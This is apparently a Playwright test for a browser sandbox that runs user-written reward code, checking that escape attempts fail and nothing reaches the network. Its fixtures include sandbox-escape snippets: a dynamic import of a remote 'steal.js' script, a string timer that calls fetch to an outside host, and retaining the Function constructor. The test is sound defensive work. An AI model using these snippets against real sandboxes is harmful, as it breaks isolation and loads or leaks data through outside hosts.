import { test, expect } from '@playwright/test';
import { watchConsole } from './console';
import { openWorkerPage } from './worker-page';
import type { ModelWorkerApi } from '../src/worker/protocol';

/**
 * The reward-code sandbox (src/worker/reward-sandbox.worker.ts) against code that tries to reach past it: the
 * sandbox is locked down before any of the person's code runs, so the Function constructor cannot be kept for
 * later, string timers do not compile code, and `import` in any spelling is refused. None of it may reach the
 * network.
 */

type W = ModelWorkerApi;
type Ev = { type: string; message?: string };

declare global {
  interface Window {
    secEvents: Ev[];
  }
}

const TINY = {
  model: 'tiny',
  task: 'sentiment',
  batchSize: 2,
  miniBatches: 1,
  ppoEpochs: 1,
  responseLength: 4,
  seed: 3,
};

test('reward code cannot keep Function, compile strings in timers, or import modules', async ({ page }) => {
  test.setTimeout(240_000);
  const consoleWatch = watchConsole(page);
  const outside: string[] = [];
  page.on('request', (r) => {
    // blob: URLs carry their origin inside (tfjs's threaded WASM starts its pthread workers from blob: scripts).
    const u = new URL(r.url());
    const host = u.protocol === 'blob:' ? new URL(u.pathname).hostname : u.hostname;
    if (host !== 'localhost') outside.push(r.url());
  });
  await openWorkerPage(page);
  const r = await page.evaluate(async (cfg) => {
    const w = window.modelWorker as unknown as W;
    await w.init('wasm');
    const url = performance
      .getEntriesByType('resource')
      .map((e) => e.name)
      .find((n) => /\/comlink(\.js|\.mjs)?(\?|$)/.test(new URL(n).pathname) || /deps\/comlink\.js/.test(n));
    const { proxy } = (await import(/* @vite-ignore */ url!)) as { proxy: <T>(x: T) => T };
    window.secEvents = [];
    await w.subscribe(proxy((e: Ev) => void window.secEvents.push(e)));
    await w.configure(cfg);

    const refused: string[] = [];
    for (const code of [
      'return import/**/("https://example.com/steal.js").then(() => 1);',
      '(s) => { const m = "imp" + "ort"; return 0; } // import',
    ]) {
      try {
        await w.setRewardCode(code);
        refused.push('accepted');
      } catch (e) {
        refused.push(`${(e as Error).name}: ${(e as Error).message}`);
      }
    }

    const attempts = [
      // Evaluated while compiling: keeps the function constructor for later.
      '(() => { const F = (() => {}).constructor; return (s) => F("return 1")(); })()',
      // A string timer is eval by another name.
      '(s) => { setTimeout("fetch(\\"https://example.com/?\\" + 1)", 0); return 0; }',
    ];
    const errors: string[] = [];
    for (const code of attempts) {
      await w.setRewardCode(code);
      const before = window.secEvents.filter((e) => e.type === 'error').length;
      await w.stepOnce();
      // The event comes through the subscription's own channel, which need not deliver before stepOnce's reply:
      // wait for it (up to 10 s) rather than read the list at once.
      const errorsNow = () => window.secEvents.filter((e) => e.type === 'error');
      for (let t = 0; errorsNow().length <= before && t < 200; t++)
        await new Promise((ok) => setTimeout(ok, 50));
      const now = errorsNow();
      errors.push(now.length > before ? String(now.at(-1)!.message) : 'no error');
    }
    await w.setRewardCode(null);
    return { refused, errors };
  }, TINY);

  expect(r.refused).toEqual([
    expect.stringMatching(/^UserError: Your reward code does not compile: reward code cannot use import/),
    expect.stringMatching(/^UserError: Your reward code does not compile: reward code cannot use import/),
  ]);
  for (const e of r.errors)
    expect(e).toMatch(/not available in reward code \(no network, storage or code loading\)/);
  expect(outside).toEqual([]);
  expect(consoleWatch.errors).toEqual([]);
});
